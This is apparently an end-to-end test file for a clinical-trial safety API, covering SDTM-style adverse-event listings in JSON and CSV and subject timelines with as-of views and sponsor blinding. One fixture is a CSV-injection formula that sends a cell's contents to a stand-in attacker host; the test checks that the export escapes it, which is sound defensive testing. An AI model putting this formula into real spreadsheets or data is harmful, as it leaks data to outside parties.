import type { AdverseEventState } from '@vigil/contracts';
import { asMessage, at, CELLKINE_TRIAL, cellKine, cloudEvent, InputCloudEvent } from './support/cellkine-events';
import { useE2eRun } from './support/e2e-harness';

/**
 * The AE listing (SDTM AE-style JSON and CSV) and the subject timeline over a small CellKine history through
 * the real broker and the built apps: current versions only, nullified AEs left out, AESTDY without day 0,
 * CSV bytes, study-day order with graded labs, AE versions and alerts, asOf on both, blinding, 404.
 */
const T = CELLKINE_TRIAL;
const S1 = 'CK-001';
const S2 = 'CK-002';
/** Before AE-01's follow-up (recorded 2021-01-22) and everything after it. */
const AS_OF = '2021-01-20T00:00:00Z';

const labs = [
  { test: 'ALT', value: 212, unit: 'U/L', lln: 7, uln: 40 },
  { test: 'AST', value: 35, unit: 'U/L', lln: 8, uln: 40 },
  { test: 'BILI', value: 0.8, unit: 'mg/dL', lln: 0.1, uln: 1.2 },
];
const visit = (code: string, date: string, extra: Record<string, unknown> = {}) => {
  const event = cellKine.visitCompleted(S1, code, date);
  return { ...event, data: { ...event.data, ...extra } };
};
const ae = (aeId: string, overrides: Record<string, unknown>, time: string, subject = S1) =>
  cellKine.adverseEvent(subject, aeId, overrides as Partial<AdverseEventState>, { time });

const BRUISING = {
  term: 'Bruising below the injection site, "left" facet',
  meddra: {
    ptCode: '10022052',
    pt: 'Injection site bruising',
    socCode: '10018065',
    soc: 'General disorders and administration site conditions',
  },
  onsetDate: '2021-01-12',
  causality: 'possibly',
  sponsorCausality: 'probably',
};

/** A verbatim term a spreadsheet would run as a formula (OWASP CSV injection); this AE has a negative AESTDY. */
const MALICIOUS_TERM = '=HYPERLINK("https://evil.example/?leak="&B2,"Facial rash")';

const visits: InputCloudEvent<unknown>[] = [
  cellKine.enrolled(S1, '2021-01-04'),
  cellKine.treated(S1, '2021-01-11'),
  visit('DAY0', '2021-01-11'),
  visit('DAY1', '2021-01-12'),
  visit('DAY3_5', '2021-01-15'),
  visit('WEEK2', '2021-01-25'),
  visit('M3', '2021-04-12', { labs }),
  cellKine.enrolled(S2, '2021-01-05'),
  cellKine.treated(S2, '2021-01-18'),
];
const adverseEvents: InputCloudEvent<unknown>[] = [
  ae(
    'CK-001-AE-03',
    { term: MALICIOUS_TERM, meddra: { pt: 'Rash', soc: 'Skin and subcutaneous tissue disorders' }, onsetDate: '2021-01-08' },
    at('2021-01-11', '09:00'),
  ),
  ae('CK-001-AE-01', {}, at('2021-01-13', '10:00')),
  ae('CK-001-AE-02', BRUISING, at('2021-01-14', '10:00')),
  ae('CK-001-AE-01', { version: 2, outcome: 'recovered', endDate: '2021-01-20' }, at('2021-01-22', '10:00')),
  ae('CK-001-AE-04', { term: 'Diarrhea', onsetDate: '2021-02-01' }, at('2021-02-02', '10:00')),
  cloudEvent(
    'adverse-event.nullified',
    S1,
    { aeId: 'CK-001-AE-04', version: 2, reason: 'entered for the wrong subject' },
    { time: at('2021-02-05', '10:00') },
  ),
  cellKine.seriousAdverseEvent(S2, 'CK-002-AE-01'),
];

describe('AE listing and subject timeline (built apps, real broker)', () => {
  const run = useE2eRun('api-listings');
  let dsmb: string;
  let sponsor: string;

  beforeAll(async () => {
    await Promise.all([run.startMonitor(), run.startApi()]);
    [dsmb, sponsor] = await Promise.all([run.mintToken({ role: 'dsmb', trials: [T] }), run.mintToken({ role: 'sponsor', trials: [T] })]);
    await run.produce('visits', visits.map(asMessage));
    await run.produce('adverseEvents', adverseEvents.map(asMessage));
    const count = async (sql: string) => Number((await run.sql(sql))[0].n);
    await run.waitFor(
      'every read model to hold the history',
      async () =>
        (await count(`select count(*) n from timeline_entries`)) === visits.length + adverseEvents.length &&
        (await count(`select count(*) n from ae_versions`)) === adverseEvents.length &&
        (await count(`select count(*) n from subjects where treated_on is not null`)) === 2 &&
        (await count(`select count(*) n from alerts where kind in ('lab-abnormality', 'adverse-event')`)) === 3 &&
        (await count(`select count(distinct alert_id) n from alert_versions`)) === (await count(`select count(*) n from alerts`)),
      { timeoutMs: 60_000 },
    );
  });

  const get = (path: string, token = dsmb) => run.http(`/api/trials/${T}${path}`, { token });

  describe('GET /adverse-events', () => {
    it('lists each AE once in its current version, nullified AEs left out, sorted by USUBJID, AESTDTC, AESPID', async () => {
      const response = await get('/adverse-events');
      expect(response.status).toBe(200);
      const items = response.body.items as Record<string, unknown>[];
      expect(items.map((r) => [r.USUBJID, r.AESPID, r.AEVERSION, r.AESTDY])).toEqual([
        [`${T}-CK-001`, 'CK-001-AE-03', 1, -3], // onset three days before treatment: no day 0 in SDTM
        [`${T}-CK-001`, 'CK-001-AE-01', 2, 2],
        [`${T}-CK-001`, 'CK-001-AE-02', 1, 2],
        [`${T}-CK-002`, 'CK-002-AE-01', 1, 43],
      ]);
      expect(items[1]).toEqual({
        STUDYID: T,
        USUBJID: `${T}-CK-001`,
        AESPID: 'CK-001-AE-01',
        AETERM: 'Dull pain from waistline to buttocks',
        AEDECOD: 'Back pain',
        AEBODSYS: 'Musculoskeletal and connective tissue disorders',
        AESER: 'N',
        AESDTH: 'N',
        AESLIFE: 'N',
        AESHOSP: 'N',
        AESDISAB: 'N',
        AESCONG: 'N',
        AESMIE: 'N',
        AEREL: 'NOT RELATED',
        AERELSPN: '',
        AETOXGR: '1',
        AEOUT: 'RECOVERED/RESOLVED',
        AESTDTC: '2021-01-12',
        AEENDTC: '2021-01-20',
        AESTDY: 2,
        AEVERSION: 2,
        AEEXPECT: 'EXPECTED',
      });
      expect(items[3]).toMatchObject({ AESER: 'Y', AESHOSP: 'Y', AESDTH: 'N', AEREL: 'UNLIKELY', AETOXGR: '2', AEEXPECT: 'UNEXPECTED' });
    });

    it('filters by subjectId', async () => {
      const response = await get(`/adverse-events?subjectId=${S2}`);
      expect(response.body.items.map((r: { AESPID: string }) => r.AESPID)).toEqual(['CK-002-AE-01']);
    });

    it('renders CSV (RFC 4180, CRLF, quoted comma and quotes) as a download', async () => {
      const response = await get('/adverse-events?format=csv');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${T}-adverse-events.csv"`);
      const lines = response.text.split('\r\n');
      expect(lines).toHaveLength(6); // header, four rows, and the empty string after the last CRLF
      expect(lines[0]).toBe(
        'STUDYID,USUBJID,AESPID,AETERM,AEDECOD,AEBODSYS,AESER,AESDTH,AESLIFE,AESHOSP,AESDISAB,AESCONG,AESMIE,AEREL,AERELSPN,AETOXGR,AEOUT,AESTDTC,AEENDTC,AESTDY,AEVERSION,AEEXPECT',
      );
      expect(lines[3]).toBe(
        'NCT04410731,NCT04410731-CK-001,CK-001-AE-02,"Bruising below the injection site, ""left"" facet",Injection site bruising,' +
          'General disorders and administration site conditions,N,N,N,N,N,N,N,POSSIBLY,PROBABLY,1,RECOVERING/RESOLVING,2021-01-12,,2,1,EXPECTED',
      );
      expect(response.text.endsWith('EXPECTED\r\n') || response.text.endsWith('UNEXPECTED\r\n')).toBe(true);
      expect((await get('/adverse-events?format=csv', sponsor)).text).toBe(response.text);
    });

    it('escapes a formula-like verbatim term in the CSV (OWASP) and keeps a negative AESTDY a number', async () => {
      const lines = (await get('/adverse-events?format=csv')).text.split('\r\n');
      expect(lines[1]).toBe(
        'NCT04410731,NCT04410731-CK-001,CK-001-AE-03,"\'=HYPERLINK(""https://evil.example/?leak=""&B2,""Facial rash"")",Rash,' +
          'Skin and subcutaneous tissue disorders,N,N,N,N,N,N,N,NOT RELATED,,1,RECOVERING/RESOLVING,2021-01-08,,-3,1,EXPECTED',
      );
      // The JSON listing is not a spreadsheet: it keeps the term verbatim.
      expect((await get('/adverse-events')).body.items[0].AETERM).toBe(MALICIOUS_TERM);
    });

    it('as of a past moment shows the versions known then, and an AE nullified later', async () => {
      const before = await get(`/adverse-events?asOf=${AS_OF}`);
      expect(before.body.items.map((r: Record<string, unknown>) => [r.AESPID, r.AEVERSION, r.AEOUT])).toEqual([
        ['CK-001-AE-03', 1, 'RECOVERING/RESOLVING'],
        ['CK-001-AE-01', 1, 'RECOVERING/RESOLVING'],
        ['CK-001-AE-02', 1, 'RECOVERING/RESOLVING'],
      ]);
      const beforeNullification = await get('/adverse-events?asOf=2021-02-03T00:00:00Z&format=csv');
      expect(beforeNullification.text).toContain(',CK-001-AE-04,Diarrhea,');
      expect(beforeNullification.text).toContain(',CK-001-AE-01,');
      expect(beforeNullification.text).not.toContain('CK-002-AE-01');
    });

    it('refuses an unknown format or a bad asOf with 400', async () => {
      expect((await get('/adverse-events?format=xml')).body.detail).toMatch(/"format" must be one of json, csv/);
      expect((await get('/adverse-events?asOf=2021-01-20')).status).toBe(400);
    });
  });

  describe('GET /subjects/:subjectId/timeline', () => {
    it('tells the subject in study-day order: graded labs, every AE version, nullification, alerts placed', async () => {
      const response = await get(`/subjects/${S1}/timeline`);
      expect(response.status).toBe(200);
      const t = response.body;
      expect(t).toMatchObject({
        trialId: T,
        subjectId: S1,
        enrolledOn: '2021-01-04',
        treatedOn: '2021-01-11',
        withdrawnOn: null,
        arm: 'BM-MSC 2x10^7',
      });
      expect(
        t.entries.map((e: Record<string, unknown>) => [
          e.studyDay,
          e.kind,
          e.visitCode ?? e.aeId ?? e.alertKind ?? null,
          e.version ?? null,
        ]),
      ).toEqual([
        [-7, 'enrolment', null, null],
        [-3, 'adverse-event', 'CK-001-AE-03', 1],
        [0, 'treatment', null, null],
        [0, 'visit', 'DAY0', null],
        [1, 'visit', 'DAY1', null],
        [1, 'adverse-event', 'CK-001-AE-01', 1],
        [1, 'adverse-event', 'CK-001-AE-02', 1],
        [1, 'adverse-event', 'CK-001-AE-01', 2],
        [3, 'alert', 'CK-001-AE-02', null], // raised when the sponsor learnt of AE-02 (2021-01-14)
        [4, 'visit', 'DAY3_5', null],
        [14, 'visit', 'WEEK2', null],
        [21, 'adverse-event', 'CK-001-AE-04', 1],
        [null, 'nullification', 'CK-001-AE-04', 2], // no date in the event: placed when recorded (2021-02-05)
        [91, 'visit', 'M3', null],
        [91, 'alert', 'M3', null],
      ]);
      const [aeV1, aeV2] = t.entries.filter((e: Record<string, unknown>) => e.aeId === 'CK-001-AE-01');
      expect(aeV1).toMatchObject({
        date: '2021-01-12',
        time: '2021-01-13T10:00:00.000Z',
        current: false,
        outcome: 'recovering',
        grade: 1,
        causality: 'not-related',
        serious: false,
      });
      expect(aeV2).toMatchObject({ current: true, outcome: 'recovered', endDate: '2021-01-20' });
      const m3 = t.entries.find((e: Record<string, unknown>) => e.visitCode === 'M3' && e.kind === 'visit');
      expect(m3.labs).toEqual([
        expect.objectContaining({ test: 'ALT', value: 212, ctcaeGrade: 3, ctcaeVersion: '5.0' }),
        expect.objectContaining({ test: 'AST', ctcaeGrade: 0 }),
        expect.objectContaining({ test: 'BILI', ctcaeGrade: 0 }),
      ]);
      expect(m3).toMatchObject({ visitDate: '2021-04-12', assessments: { vas: 6.1 }, vitals: { temperatureC: 36.8 }, current: true });
      const labAlert = t.entries[14];
      expect(labAlert).toMatchObject({
        kind: 'alert',
        alertKind: 'lab-abnormality',
        status: 'open',
        date: '2021-04-12',
        raisedAt: '2021-04-12T16:20:00.000Z',
        severity: 'medium',
      });
      expect(t.entries[8]).toMatchObject({ alertKind: 'adverse-event', reasons: ['RELATED'], raisedAt: '2021-01-14T10:00:00.000Z' });
    });

    it('as of a past moment shows only what had been recorded by then', async () => {
      const t = (await get(`/subjects/${S1}/timeline?asOf=${AS_OF}`)).body;
      expect(
        t.entries.map((e: Record<string, unknown>) => [e.kind, e.visitCode ?? e.aeId ?? null, e.version ?? null, e.current ?? null]),
      ).toEqual([
        ['enrolment', null, null, null],
        ['adverse-event', 'CK-001-AE-03', 1, true],
        ['treatment', null, null, null],
        ['visit', 'DAY0', null, true],
        ['visit', 'DAY1', null, true],
        ['adverse-event', 'CK-001-AE-01', 1, true],
        ['adverse-event', 'CK-001-AE-02', 1, true],
        ['alert', 'CK-001-AE-02', null, null],
        ['visit', 'DAY3_5', null, true],
      ]);
      const early = (await get(`/subjects/${S1}/timeline?asOf=2021-01-11T12:00:00%2B02:00`)).body;
      expect(early).toMatchObject({ enrolledOn: '2021-01-04', treatedOn: null });
      expect(early.entries.map((e: Record<string, unknown>) => [e.studyDay, e.kind])).toEqual([
        [null, 'enrolment'],
        [null, 'adverse-event'],
      ]);
    });

    it('gives sponsors no arm', async () => {
      const response = await get(`/subjects/${S1}/timeline`, sponsor);
      expect(response.status).toBe(200);
      expect(response.body).not.toHaveProperty('arm');
      expect(response.text).not.toContain('BM-MSC');
      expect(response.body.entries).toHaveLength(15);
    });

    it('answers 404 for a subject without data in the trial, and 400 for a bad asOf', async () => {
      const unknown = await get('/subjects/CK-999/timeline');
      expect(unknown.status).toBe(404);
      expect(unknown.body.detail).toBe(`trial ${T} has no subject CK-999`);
      expect((await get(`/subjects/${S1}/timeline?asOf=2021-01-01T00:00:00Z`)).status).toBe(404);
      expect((await get(`/subjects/${S1}/timeline?asOf=soon`)).body.detail).toMatch(/"asOf"/);
    });
  });
});
